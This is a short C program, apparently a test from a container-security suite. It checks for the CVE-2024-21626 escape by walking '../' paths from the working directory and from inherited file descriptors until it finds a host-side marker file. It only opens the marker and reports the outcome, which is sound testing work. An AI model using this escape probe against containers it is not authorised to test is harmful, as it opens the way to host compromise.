/* CVE-2024-21626: descriptors and a working directory that belong to the engine. argv: marker */
#include "attack.h"
#include <dirent.h>

static bool leads_out(int fd, const char *marker)
{
        char path[4096];
        for (int up = 0; up <= 12; up++) {
                path[0] = '\0';
                for (int i = 0; i < up; i++)
                        strncat(path, "../", sizeof(path) - strlen(path) - 1);
                strncat(path, marker + 1, sizeof(path) - strlen(path) - 1);
                int found = openat(fd, path, O_RDONLY | O_CLOEXEC);
                if (found >= 0) {
                        close(found);
                        return true;
                }
        }
        return false;
}

int main(int argc, char **argv)
{
        if (argc != 2)
                return 2;
        attempt("the working directory", leads_out(AT_FDCWD, argv[1]));
        DIR *folder = opendir("/proc/self/fd");
        if (!folder)
                return 2;
        for (struct dirent *entry; (entry = readdir(folder));) {
                char target[512] = "", path[300], what[900];
                int fd = (int)strtol(entry->d_name, NULL, 10);
                if (entry->d_name[0] == '.' || fd == dirfd(folder))
                        continue;
                snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
                if (readlink(path, target, sizeof(target) - 1) < 0)
                        continue;
                snprintf(what, sizeof(what), "descriptor %d -> %s", fd, target);
                errno = ENOENT;
                attempt(what, fd > 2 || leads_out(fd, argv[1]));
        }
        closedir(folder);
        return verdict();
}
